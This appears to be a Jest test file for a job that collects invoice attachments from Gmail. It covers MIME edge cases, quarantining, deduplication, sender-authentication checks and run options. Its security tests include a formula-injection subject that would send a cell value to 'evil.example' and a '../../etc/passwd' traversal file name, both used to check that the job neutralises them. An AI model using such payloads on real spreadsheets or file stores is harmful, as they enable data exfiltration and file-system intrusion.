// The collect job on crafted mailboxes, through the built bundle: the edge cases of seed §8 (nested
// MIME, forwarded mail, inline vs attachment, encoded names, corrupt and 0-byte files, duplicate file
// names, huge attachments, Drive links, the same attachment in two messages), the security cases (a
// subject "=HYPERLINK(…)" stays text, a forged whitelisted From is quarantined when authentication is
// required), labels per message (not per thread), dry run, `since` and the per-run limit.

import { makeJpeg, makePdf, makePng } from '../../../emulator/demo/binary-files';
import { attachment, htmlPart, textPart, writeMessage, type LeafPart } from '../../../emulator/demo/mime-writer';
import {
  SUPPLIER,
  SUPPLIER_DOMAIN,
  addMessage,
  authFail,
  authPass,
  collect,
  collectedFiles,
  ensureBuilt,
  jobRuns,
  labelsByMessage,
  openWorkspace,
  receipts,
} from './helpers';

beforeAll(ensureBuilt);

const pdf = (text: string) => makePdf([text, 'Montant TTC : 100,00 €']);
const day = (d: number, h = 9) => new Date(Date.UTC(2026, 0, d, h, 0, 0));
const gmailCalls = (calls: Record<string, number>, method: string) => calls[`Gmail.REST.${method}`] ?? 0;

describe('MIME shapes', () => {
  // `is:unread` without has:attachment, so the message with only a Drive link is scanned too.
  const opened = openWorkspace({}, { allowedSenders: [SUPPLIER], query: 'is:unread' });
  let first: ReturnType<typeof collect>;
  const { workspace } = opened;
  const signature: LeafPart = {
    kind: 'leaf',
    contentType: 'image/png',
    body: makePng(40, 12, [10, 20, 30], 'sig'),
    filename: 'logo.png',
    disposition: 'inline',
    contentId: 'logo@sig',
  };
  const forwarded = writeMessage(
    { from: `Autre <${SUPPLIER}>`, to: 'x@y.fr', subject: 'Facture transférée', date: day(2), messageId: 'inner@fournisseur-verre.fr' },
    { kind: 'multi', subtype: 'mixed', parts: [textPart('original'), attachment('application/pdf', 'FWD-001.pdf', pdf('FWD-001'))] },
    'inner',
  );
  const ids: Record<string, string> = {};

  beforeAll(() => {
    ids.nested = addMessage(workspace, {
      messageId: 'nested@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          {
            kind: 'multi',
            subtype: 'related',
            parts: [
              { kind: 'multi', subtype: 'alternative', parts: [textPart('Bonjour'), htmlPart('<p>Bonjour <img src="cid:logo@sig"></p>')] },
              signature,
            ],
          },
          attachment('application/pdf', 'NESTED-1.pdf', pdf('NESTED-1')),
        ],
      },
    });
    ids.forwarded = addMessage(workspace, {
      messageId: 'fwd@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('Voir ci-dessous'), { kind: 'message', message: forwarded }] },
    });
    ids.encoded = addMessage(workspace, {
      messageId: 'encoded@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          textPart('Deux reçus'),
          attachment('application/pdf', 'reçu n°1 été.pdf', pdf('R1'), 'rfc2231'),
          attachment('image/jpeg', 'photo ticket été.jpg', makeJpeg(8, 8, 'T'), 'rfc2047'),
        ],
      },
    });
    ids.octet = addMessage(workspace, {
      messageId: 'octet@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [textPart('pdf'), attachment('application/octet-stream', 'OCTET.pdf', pdf('OCTET'))],
      },
    });
    ids.drive = addMessage(workspace, {
      messageId: 'drive@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          htmlPart('<a href="https://drive.google.com/file/d/abc123/view">facture</a>'),
          attachment('application/pdf', 'AVEC-LIEN.pdf', pdf('LINK')),
        ],
      },
    });
    ids.linkOnly = addMessage(workspace, {
      messageId: 'linkonly@x',
      root: htmlPart('Votre facture : https://drive.google.com/file/d/zzz999/view'),
      labelIds: ['INBOX', 'UNREAD'],
    });
    ids.invite = addMessage(workspace, {
      messageId: 'invite@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          textPart('RDV'),
          {
            kind: 'leaf',
            contentType: 'text/calendar',
            typeParams: { method: 'REQUEST' },
            body: Buffer.from('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'),
            filename: 'invite.ics',
            disposition: 'attachment',
          },
        ],
      },
    });
    ids.traversal = addMessage(workspace, {
      messageId: 'traversal@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', '../../etc/passwd.pdf', pdf('TRAV'))] },
    });
  });

  it('collects the PDF of a nested message and skips its inline signature logo', () => {
    first = collect(opened, {}, 5);
    const result = first;
    expect(result.error).toBeNull();
    const rows = receipts(workspace);
    const nested = rows.filter((row) => row.gmail_message_id === ids.nested);
    expect(nested.map((row) => row.original_filename)).toEqual(['NESTED-1.pdf']);
    expect(result.summary!.metrics.skipped.inline_image).toBe(1);
  });

  it('collects a PDF inside a forwarded message/rfc822', () => {
    const row = receipts(workspace).find((r) => r.gmail_message_id === ids.forwarded);
    expect(row).toMatchObject({ original_filename: 'FWD-001.pdf', state: 'ingested', content_type: 'application/pdf' });
  });

  it('decodes RFC 2231 and RFC 2047 file names', () => {
    const names = receipts(workspace)
      .filter((r) => r.gmail_message_id === ids.encoded)
      .map((r) => r.original_filename)
      .sort();
    expect(names).toEqual(['photo ticket été.jpg', 'reçu n°1 été.pdf']);
    const files = collectedFiles(workspace).map((f) => f.path);
    expect(files).toEqual(
      expect.arrayContaining(['Postroom/incoming/2026-01-05/reçu n°1 été.pdf', 'Postroom/incoming/2026-01-05/photo ticket été.jpg']),
    );
  });

  it('types a generic application/octet-stream by its extension and bytes', () => {
    expect(receipts(workspace).find((r) => r.gmail_message_id === ids.octet)).toMatchObject({
      content_type: 'application/pdf',
      state: 'ingested',
    });
  });

  it('counts Drive links and calendar invites as skips; a link-only or invite-only message is left untouched', () => {
    const labels = labelsByMessage(workspace);
    expect(labels['<linkonly@x>']).toEqual({ labels: [], unread: true });
    expect(labels['<invite@x>']).toEqual({ labels: [], unread: true });
    expect(labels['<drive@x>']).toEqual({ labels: ['Postroom/imported'], unread: false });
    expect(jobRuns(workspace)[0].status).toBe('succeeded');
    // The link-only message and the one with a link and a file: two messages with Drive links.
    expect(first.summary!.metrics.skipped).toMatchObject({ drive_link: 2, calendar_invite: 1 });
    expect(receipts(workspace).filter((row) => row.gmail_message_id === ids.linkOnly)).toEqual([]);
  });

  it('never lets a file name climb out of its folder', () => {
    const row = receipts(workspace).find((r) => r.gmail_message_id === ids.traversal)!;
    expect(row.original_filename).toBe('../../etc/passwd.pdf');
    expect(row.storage_path).toBe('incoming/2026-01-05/_.._etc_passwd.pdf');
    expect(String(row.storage_path).split('/')).toHaveLength(3);
  });
});

describe('files that are not what they claim, or not there at all', () => {
  it('quarantines a corrupt (truncated) PDF and a mislabelled image with their reasons, stores a 0-byte file there too', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    const truncated = pdf('TRUNC').subarray(0, 300);
    addMessage(workspace, {
      messageId: 'bad@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          textPart('x'),
          attachment('application/pdf', 'tronque.pdf', Buffer.from(truncated)),
          attachment('image/jpeg', 'photo.jpg', makePng(4, 4, [1, 2, 3])),
          attachment('application/pdf', 'vide.pdf', Buffer.alloc(0)),
          attachment('application/pdf', 'pas-un-pdf.pdf', Buffer.from('<html>phishing</html>')),
        ],
      },
    });
    const result = collect(opened);
    expect(result.summary!.metrics.quarantinedByReason).toEqual({ truncated_file: 1, magic_mismatch: 2, empty_file: 1 });
    const rows = receipts(workspace);
    expect(rows.every((row) => row.state === 'quarantined')).toBe(true);
    expect(rows.find((row) => row.original_filename === 'vide.pdf')).toMatchObject({
      filesize: 0,
      storage_path: 'quarantine/2026-01-05/vide.pdf',
      sha256: '',
    });
    expect(
      collectedFiles(workspace)
        .map((f) => f.path)
        .sort(),
    ).toEqual([
      // Stored under the extension of what the bytes are: HTML claiming to be a PDF gets .bin, a PNG named .jpg .png.
      'Postroom/quarantine/2026-01-05/pas-un-pdf.pdf.bin',
      'Postroom/quarantine/2026-01-05/photo.png',
      'Postroom/quarantine/2026-01-05/tronque.pdf',
      'Postroom/quarantine/2026-01-05/vide.pdf',
    ]);
    expect(labelsByMessage(workspace)['<bad@x>']).toEqual({ labels: ['Postroom/quarantine'], unread: false });
  });

  it('quarantines a 30 MB attachment on its size without downloading it: a note in quarantine/ takes its place', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    const huge = Buffer.concat([pdf('HUGE').subarray(0, 100), Buffer.alloc(30 * 1024 * 1024, 0x20), Buffer.from('\n%%EOF\n')]);
    addMessage(workspace, {
      messageId: 'huge@x',
      root: {
        kind: 'multi',
        subtype: 'mixed',
        parts: [
          textPart('gros'),
          attachment('application/pdf', 'scan-600dpi.pdf', huge),
          attachment('application/pdf', 'petit.pdf', pdf('SMALL')),
        ],
      },
    });
    const result = collect(opened);
    expect(result.summary!.metrics).toMatchObject({
      quarantined: 1,
      receiptsCreated: 1,
      attachmentsDownloaded: 1,
      quarantinedByReason: { too_large: 1 },
    });
    expect(gmailCalls(workspace.accounting.total.calls, 'messages.attachments.get')).toBe(1);
    const row = receipts(workspace).find((r) => r.original_filename === 'scan-600dpi.pdf')!;
    expect(row).toMatchObject({ state: 'quarantined', storage_path: 'quarantine/2026-01-05/scan-600dpi.pdf.txt', sha256: '' });
    expect(String(row.reason)).toMatch(/^too_large: 31457\d+ bytes is over maxSizeBytes \(20971520\); not fetched: over 25 MiB$/);
    expect(collectedFiles(workspace).map((f) => f.path)).toEqual([
      'Postroom/incoming/2026-01-05/petit.pdf',
      'Postroom/quarantine/2026-01-05/scan-600dpi.pdf.txt',
    ]);
  });
});

describe('names and duplicates', () => {
  it('gives the same name with different bytes a suffix, never overwriting', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    for (const n of [1, 2, 3])
      addMessage(workspace, {
        messageId: `same-name-${n}@x`,
        root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'facture.pdf', pdf(`F${n}`))] },
      });
    collect(opened);
    expect(collectedFiles(workspace).map((f) => f.path)).toEqual([
      'Postroom/incoming/2026-01-05/facture (2).pdf',
      'Postroom/incoming/2026-01-05/facture (3).pdf',
      'Postroom/incoming/2026-01-05/facture.pdf',
    ]);
    expect(new Set(collectedFiles(workspace).map((f) => f.sha256)).size).toBe(3);
    // A later run, a later file with the same name: the names recorded in the ledger are taken.
    addMessage(workspace, {
      messageId: 'same-name-4@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'FACTURE.pdf', pdf('F4'))] },
    });
    collect(opened);
    expect(collectedFiles(workspace).map((f) => f.path)).toContain('Postroom/incoming/2026-01-05/FACTURE (4).pdf');
  });

  it('keeps one receipt for the same attachment sent in two messages, and labels both', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    const same = pdf('SAME-INVOICE');
    addMessage(workspace, {
      messageId: 'dup-a@x',
      date: day(3),
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('a'), attachment('application/pdf', 'FV-1.pdf', same)] },
    });
    addMessage(workspace, {
      messageId: 'dup-b@x',
      date: day(4),
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('b'), attachment('application/pdf', 'relance FV-1.pdf', same)] },
    });
    const result = collect(opened);
    expect(result.summary!.metrics).toMatchObject({ receiptsCreated: 1, duplicatesSkipped: 1 });
    expect(receipts(workspace)).toHaveLength(1);
    expect(receipts(workspace)[0]).toMatchObject({ original_filename: 'FV-1.pdf', storage_path: 'incoming/2026-01-03/FV-1.pdf' });
    const labels = labelsByMessage(workspace);
    expect(labels['<dup-a@x>'].labels).toEqual(['Postroom/imported']);
    expect(labels['<dup-b@x>'].labels).toEqual(['Postroom/imported']);
  });
});

describe('security', () => {
  it('writes a subject "=HYPERLINK(…)" and a formula-like file name as text, never as formulas', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    const subject = '=HYPERLINK("https://evil.example/?leak="&A1,"Facture")';
    addMessage(workspace, {
      subject,
      messageId: 'formula@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', '=1+2.pdf', pdf('FORMULA'))] },
    });
    collect(opened);
    const [row] = receipts(workspace);
    expect(row.subject).toBe(subject);
    expect(row.original_filename).toBe('=1+2.pdf');
    expect(Object.keys(workspace.sheets.formulas(workspace.containerId!))).toEqual([]);
  });

  it('by default (requireAuthenticatedSender on), quarantines a forged whitelisted From with the reason and ingests the authenticated one', () => {
    const opened = openWorkspace({}, { allowedSenders: [SUPPLIER] });
    const { workspace } = opened;
    addMessage(workspace, {
      messageId: 'real@x',
      auth: authPass(SUPPLIER_DOMAIN),
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'vraie.pdf', pdf('REAL'))] },
    });
    addMessage(workspace, {
      messageId: 'forged@x',
      auth: authFail(SUPPLIER_DOMAIN),
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'fausse.pdf', pdf('FORGED'))] },
    });
    addMessage(workspace, {
      messageId: 'noauth@x',
      auth: '',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'sans-auth.pdf', pdf('NOAUTH'))] },
    });
    collect(opened);
    const byName = Object.fromEntries(receipts(workspace).map((row) => [row.original_filename, row]));
    expect(byName['vraie.pdf']).toMatchObject({ state: 'ingested' });
    expect(byName['fausse.pdf']).toMatchObject({ state: 'quarantined', storage_path: 'quarantine/2026-01-05/fausse.pdf' });
    expect(String(byName['fausse.pdf'].reason)).toMatch(/^sender_not_authenticated: spf=fail/);
    expect(byName['sans-auth.pdf']).toMatchObject({ state: 'quarantined' });
    expect(String(byName['sans-auth.pdf'].reason)).toMatch(/^sender_not_authenticated: spf=none dkim=none dmarc=none/);
    expect(labelsByMessage(workspace)['<forged@x>'].labels).toEqual(['Postroom/quarantine']);
  });

  it('imports an unauthenticated whitelisted sender only when the user turns requireAuthenticatedSender off', () => {
    const opened = openWorkspace({}, { allowedSenders: [SUPPLIER], requireAuthenticatedSender: false });
    addMessage(opened.workspace, {
      messageId: 'off@x',
      auth: authFail(SUPPLIER_DOMAIN),
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'off.pdf', pdf('OFF'))] },
    });
    collect(opened);
    expect(receipts(opened.workspace).map((row) => row.state)).toEqual(['ingested']);
  });

  it('skips a sender outside the whitelist: nothing stored, message left unread and unlabelled', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    addMessage(workspace, {
      from: 'Spam <promo@ailleurs.example>',
      messageId: 'spam@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'promo.pdf', pdf('PROMO'))] },
    });
    const result = collect(opened);
    expect(result.summary!.metrics).toMatchObject({ emailsScanned: 1, attachmentsSeen: 0, skipped: { sender_not_allowed: 1 } });
    expect(receipts(workspace)).toEqual([]);
    expect(labelsByMessage(workspace)['<spam@x>']).toEqual({ labels: [], unread: true });
    expect(gmailCalls(workspace.accounting.total.calls, 'messages.attachments.get')).toBe(0);
  });
});

describe('labels are per message, not per thread', () => {
  it('labels the supplier message of a thread, not the reply of an unknown sender in the same thread', () => {
    const opened = openWorkspace();
    const { workspace } = opened;
    const first = addMessage(workspace, {
      subject: 'Facture 77',
      messageId: 'thread-1@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('x'), attachment('application/pdf', 'F77.pdf', pdf('F77'))] },
    });
    const reply = addMessage(workspace, {
      from: 'Inconnu <someone@ailleurs.example>',
      subject: 'Re: Facture 77',
      inReplyTo: 'thread-1@x',
      date: day(6),
      messageId: 'thread-2@x',
      root: { kind: 'multi', subtype: 'mixed', parts: [textPart('voir pj'), attachment('application/pdf', 'autre.pdf', pdf('OTHER'))] },
    });
    expect(workspace.mailbox.getMessage(reply)!.threadId).toBe(workspace.mailbox.getMessage(first)!.threadId);
    collect(opened);
    const labels = labelsByMessage(workspace);
    expect(labels['<thread-1@x>']).toEqual({ labels: ['Postroom/imported'], unread: false });
    expect(labels['<thread-2@x>']).toEqual({ labels: [], unread: true });
  });
});

describe('dry run, since and the per-run limit', () => {
  function threeMessages() {
    const opened = openWorkspace();
    for (const d of [2, 4, 6]) {
      addMessage(opened.workspace, {
        date: day(d),
        messageId: `day-${d}@x`,
        root: {
          kind: 'multi',
          subtype: 'mixed',
          parts: [
            textPart('x'),
            attachment('application/pdf', `F-${d}.pdf`, pdf(`F${d}`)),
            attachment('image/png', `P-${d}.png`, makePng(3, 3, [d, d, d])),
          ],
        },
      });
    }
    return opened;
  }

  it('a dry run counts and logs as if, but writes no file, no Receipt, no label, no read-mark', () => {
    const opened = threeMessages();
    const { workspace } = opened;
    const result = collect(opened, { dryRun: true });
    expect(result.summary).toMatchObject({ status: 'dry_run', dryRun: true });
    expect(result.summary!.metrics).toMatchObject({ receiptsCreated: 6, attachmentsDownloaded: 6 });
    expect(result.summary!.text).toMatch(/^Simulation \(rien n’a été écrit\) : 6 justificatifs importés/);
    expect(collectedFiles(workspace)).toEqual([]);
    expect(receipts(workspace)).toEqual([]);
    for (const message of Object.values(labelsByMessage(workspace))) expect(message).toEqual({ labels: [], unread: true });
    expect(workspace.mailbox.labels().filter((label) => label.type === 'user')).toEqual([]);
    expect(jobRuns(workspace).map((run) => run.status)).toEqual(['dry_run']);
    expect(workspace.drive.listFiles().map((file) => file.path)).toEqual(['Postroom/logs/collect_from_gmail-2026-01-15.jsonl']);
  });

  it('since: only messages received on or after the day', () => {
    const opened = threeMessages();
    const result = collect(opened, { since: '2026-01-04' });
    expect(result.summary!.metrics.emailsScanned).toBe(2);
    expect(
      receipts(opened.workspace)
        .map((row) => row.original_filename)
        .sort(),
    ).toEqual(['F-4.pdf', 'F-6.pdf', 'P-4.png', 'P-6.png']);
  });

  it('maxItems: stops at whole messages, counts the rest, and the next run collects them', () => {
    const opened = threeMessages();
    const first = collect(opened, { maxItems: 3 });
    expect(first.summary!.metrics).toMatchObject({ receiptsCreated: 2, skipped: { over_run_limit: 2 } });
    expect(
      receipts(opened.workspace)
        .map((row) => row.original_filename)
        .sort(),
    ).toEqual(['F-2.pdf', 'P-2.png']); // oldest first
    // Attachments are fetched only for the message this run stored, none for the ones deferred by the limit.
    expect(gmailCalls(opened.workspace.accounting.total.calls, 'messages.attachments.get')).toBe(2);
    const second = collect(opened);
    expect(second.summary!.metrics.receiptsCreated).toBe(4);
    expect(receipts(opened.workspace)).toHaveLength(6);
  });

  it('refuses bad options with the field named', () => {
    const opened = threeMessages();
    const result = collect(opened, { since: '2026-02-30' });
    expect(result.error?.message).toMatch(/^since : « 2026-02-30 » n’est pas un jour/);
  });
});
